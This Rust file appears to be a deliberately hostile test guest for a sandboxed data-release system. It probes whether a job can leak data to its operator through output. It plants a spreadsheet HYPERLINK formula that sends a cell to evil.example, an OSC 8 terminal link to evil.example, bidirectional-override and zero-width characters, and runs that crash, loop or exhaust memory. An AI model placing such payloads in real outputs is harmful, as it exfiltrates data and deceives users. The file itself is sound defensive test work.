//! Hostile example: a guest that tries every channel a refused or released run could carry to its operator, on
//! `enterprise_registry`, by the parameter `channel` (issue "Close the channels"). It exports the bindings itself,
//! so that what it returns reaches the host unchecked by the SDK. Every text it plants carries [`MARKER`]; the
//! tests look for the marker (and for the numbers it chose) in every byte the operator can read.
//! - `name`: returns its key column under a name made of the marker and the first row's district;
//! - `rows`: returns 7,331 rows whatever it was given;
//! - `singletons`: keys every row by its legal representative's token, so that every group is suppressed and the
//!   counters of groups made and suppressed are numbers the guest chose;
//! - `formula`: one key for every row, a spreadsheet formula (`=HYPERLINK(…)`): released, and inert in the CSV;
//! - `escape`: keys holding an OSC 8 terminal hyperlink, a right-to-left override and a zero-width space;
//! - `overflow`: every row adds 4.6 × 10¹⁸ to an Int64 sum, which wraps after two rows;
//! - `zeros`: the `count` measure is 0 on every row: no row counts;
//! - `panic`, `loop`, `stack`, `oom`, `error`, `exit`: fails in one of six ways chosen on purpose;
//! - `spin`: an honest job that spins `spin` × (the first row's employees) iterations per batch — a guest whose
//!   duration depends on a value, for the timing benchmark;
//! - anything else (`honest`): firms and employees by district.

use std::sync::Arc;

use arrow_ipc::reader::StreamReader;
use arrow_ipc::writer::StreamWriter;
use zone_sdk::__private::bindings::{self, Guest};
use zone_sdk::arrow_array::cast::AsArray;
use zone_sdk::arrow_array::types::Int32Type;
use zone_sdk::arrow_array::{Array, ArrayRef, Int64Array, RecordBatch, StringArray};
use zone_sdk::{DataType, Field, Output, Schema, SchemaRef};

/// What every planted text carries.
pub const MARKER: &str = "MARKER-zq7x";

/// How many rows `rows` claims.
pub const CLAIMED_ROWS: usize = 7_331;

struct Channels;

thread_local! {
    static CHANNEL: std::cell::RefCell<String> = const { std::cell::RefCell::new(String::new()) };
    static SPIN: std::cell::Cell<u64> = const { std::cell::Cell::new(0) };
}

fn output() -> SchemaRef {
    Output::new()
        .key("group", DataType::Utf8)
        .count("firms")
        .sum("employees", DataType::Int64, 0.0, 9.2e18)
        .reads(&["district", "legal_rep_id", "employees"])
        .schema()
}

fn encode(schema: &SchemaRef, batch: Option<&RecordBatch>) -> Result<Vec<u8>, String> {
    let mut out = Vec::new();
    let mut writer = StreamWriter::try_new(&mut out, schema).map_err(|e| e.to_string())?;
    if let Some(batch) = batch {
        writer.write(batch).map_err(|e| e.to_string())?;
    }
    writer.finish().map_err(|e| e.to_string())?;
    drop(writer);
    Ok(out)
}

fn decode(bytes: Vec<u8>) -> Result<RecordBatch, String> {
    let reader = StreamReader::try_new(std::io::Cursor::new(bytes), None).map_err(|e| e.to_string())?;
    let mut batches = Vec::new();
    for b in reader {
        batches.push(b.map_err(|e| e.to_string())?);
    }
    batches.into_iter().next().ok_or_else(|| "no batch".to_owned())
}

#[allow(unconditional_recursion, reason = "the `stack` channel overflows its stack on purpose")]
fn recurse(depth: u64) -> u64 {
    std::hint::black_box(recurse(std::hint::black_box(depth) + 1)) + 1
}

fn map(batch: &RecordBatch, channel: &str) -> Result<Vec<u8>, String> {
    let rows = batch.num_rows();
    let column = |name: &str| batch.column_by_name(name).ok_or_else(|| format!("no `{name}`"));
    let district = column("district")?;
    let district = district.as_string_opt::<i32>().ok_or("`district` is not a string")?;
    let person = column("legal_rep_id")?;
    let person = person.as_string_opt::<i32>().ok_or("`legal_rep_id` is not a string")?;
    let employees = column("employees")?;
    let employees = employees.as_primitive_opt::<Int32Type>().ok_or("`employees` is not Int32")?;
    let staff: Int64Array = employees.iter().map(|v| v.map(i64::from)).collect();
    let first_district = if rows > 0 && !district.is_null(0) { district.value(0).to_owned() } else { String::new() };
    let (group, firms, sum): (StringArray, Int64Array, Int64Array) = match channel {
        "rows" => {
            let group = StringArray::from(vec![first_district.as_str(); CLAIMED_ROWS]);
            (group, Int64Array::from_value(1, CLAIMED_ROWS), Int64Array::from_value(1, CLAIMED_ROWS))
        }
        "singletons" => (person.iter().collect(), Int64Array::from_value(1, rows), staff),
        "formula" => {
            let formula = format!("=HYPERLINK(\"http://evil.example/?{MARKER}\"&A1,\"open\")");
            (StringArray::from(vec![formula.as_str(); rows]), Int64Array::from_value(1, rows), staff)
        }
        "escape" => {
            let keys: StringArray = district
                .iter()
                .map(|d| {
                    d.map(|d| format!("\u{1b}]8;;http://evil.example/{MARKER}\u{7}{d}\u{1b}]8;;\u{7}\u{202e}\u{200b}"))
                })
                .collect();
            (keys, Int64Array::from_value(1, rows), staff)
        }
        "overflow" => (
            district.iter().collect(),
            Int64Array::from_value(1, rows),
            Int64Array::from_value(4_600_000_000_000_000_000, rows),
        ),
        "zeros" => (district.iter().collect(), Int64Array::from_value(0, rows), staff),
        "panic" => {
            zone_sdk::log::log(zone_sdk::log::Level::Panic, &format!("{MARKER} {first_district}"));
            panic!("{MARKER} {first_district}")
        }
        "loop" => loop {
            std::hint::black_box(rows);
        },
        "stack" => {
            let n = recurse(0);
            return Err(format!("{MARKER} {n}"));
        }
        "oom" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![7_u8; 16 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "error" => return Err(format!("{MARKER} {first_district}")),
        "exit" => std::process::exit(3),
        "spin" => {
            let value =
                if rows > 0 && !employees.is_null(0) { u64::try_from(employees.value(0)).unwrap_or(0) } else { 0 };
            let mut x = 0_u64;
            for i in 0..SPIN.with(|s| s.get()).saturating_mul(value) {
                x = std::hint::black_box(x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(i));
            }
            std::hint::black_box(x);
            (district.iter().collect(), Int64Array::from_value(1, rows), staff)
        }
        _ => (district.iter().collect(), Int64Array::from_value(1, rows), staff),
    };
    let schema = if channel == "name" {
        // The declared fields, the key renamed after a value of the data.
        let declared = output();
        let mut fields: Vec<Field> = declared.fields().iter().map(|f| f.as_ref().clone()).collect();
        fields[0] = fields[0].clone().with_name(format!("{MARKER}-{first_district}"));
        Arc::new(Schema::new(fields))
    } else {
        output()
    };
    let columns: Vec<ArrayRef> = vec![Arc::new(group), Arc::new(firms), Arc::new(sum)];
    let out = RecordBatch::try_new(schema.clone(), columns).map_err(|e| e.to_string())?;
    encode(&schema, Some(&out))
}

impl Guest for Channels {
    fn init(_input_schema: Vec<u8>, params: Vec<(String, String)>) -> Result<Vec<u8>, String> {
        let param = |key: &str| params.iter().find(|(k, _)| k == key).map(|(_, v)| v.clone());
        CHANNEL.with(|c| *c.borrow_mut() = param("channel").unwrap_or_else(|| "honest".to_owned()));
        SPIN.with(|s| s.set(param("spin").and_then(|v| v.parse().ok()).unwrap_or(1_000)));
        encode(&output(), None)
    }

    fn map_batch(batch: Vec<u8>) -> Result<Vec<u8>, String> {
        let batch = decode(batch)?;
        let channel = CHANNEL.with(|c| c.borrow().clone());
        map(&batch, &channel)
    }

    fn finish() -> Result<Vec<(String, Vec<u8>)>, String> {
        Ok(Vec::new())
    }
}

bindings::export!(Channels with_types_in bindings);
